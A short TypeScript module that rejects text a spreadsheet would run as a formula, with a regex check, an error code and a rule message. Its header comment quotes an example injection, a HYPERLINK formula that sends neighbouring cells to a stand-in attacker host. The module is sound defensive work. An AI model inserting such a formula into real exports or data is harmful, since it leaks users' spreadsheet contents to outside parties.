// Spreadsheet formula injection (docs/security.md): a cell that begins with `=`, `+`, `-`, `@`,
// a tab or a carriage return is run as a formula by Excel and LibreOffice, even quoted in a CSV
// (`=HYPERLINK("http://attacker.example/?"&A1,"Click")` sends the neighbouring cells away). Every
// field that reaches an export or a page refuses such text on every write path (the API's
// schemas, imports); rows stored before the rule are reported, never changed
// (server/text/formula-report.ts). This module loads no database code.

const FORMULA_START = /^[=+\-@\t\r]/;

/** Whether a spreadsheet would read `text` as a formula. */
export const startsLikeFormula = (text: string): boolean => FORMULA_START.test(text);

/** The problem code of such text, in API errors and import reports. */
export const FORMULA_CODE = "formula";

export const FORMULA_RULE =
  "must not begin with =, +, -, @, a tab or a carriage return (a spreadsheet would run it as a formula): begin with a word, e.g. 'Note: -1 vote' rather than '-1 vote'";
